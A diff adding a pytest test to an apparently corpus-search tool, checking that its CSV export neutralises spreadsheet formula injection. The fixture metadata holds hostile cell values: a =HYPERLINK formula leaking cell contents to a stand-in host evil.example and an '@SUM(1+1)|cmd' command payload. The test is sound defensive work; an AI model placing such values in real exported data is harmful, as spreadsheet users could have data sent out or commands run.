@@ -190,3 +190,30 @@ def test_export_from_the_index_takes_passages_by_id_and_refuses_unknown_ids(libr
     assert item.hit.text == LAID_OUT and item.hit.title == "Detention report"
     with pytest.raises(kzqa.KzqaError, match="no passage 'nope#1' in the index"):
         collection.from_index(qa.documents, qa.passage, [("q", "nope#1")])
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text_and_still_verify(
+        corpus_copy, tmp_path, capsys):
+    write(corpus_copy / "hostile.txt",
+          "Hostile report\n\n-1 protesters were counted by the police, who said = was the total; detention followed.\n")
+    write(corpus_copy / "hostile.meta.yaml",
+          "title: '=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"click\")'\nauthor: '@SUM(1+1)|cmd'\n"
+          "publisher: '+Evil Press'\n")
+    index = tmp_path / "index"
+    kzqa.build(corpus_copy, index, FAKE_SETTINGS, embedder=FakeEmbedder())
+    notes = tmp_path / "notes.jsonl"
+    code, _, err = run(capsys, "ask", "--index", index, "-k", "1", "--collect", notes,
+                       "protesters counted by the police detention followed")
+    assert code == 0, err
+    export = tmp_path / "evidence.csv"
+    code, _, err = run(capsys, "export", notes, "--format", "csv", "-o", export)
+    assert code == 0, err
+    rows = list(csv.reader(io.StringIO(export.read_text(encoding="utf-8"), newline="")))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    header, row = rows[0], rows[1]
+    assert row[header.index("title")].startswith("'=HYPERLINK(")
+    assert row[header.index("quote")] == "'-1 protesters were counted by the police, who said = was the total; " \
+                                         "detention followed."
+    code, out, err = run(capsys, "verify", export, "--index", index)
+    assert code == 0 and "MISMATCH" not in out, out + err  # the quote checked is the one written
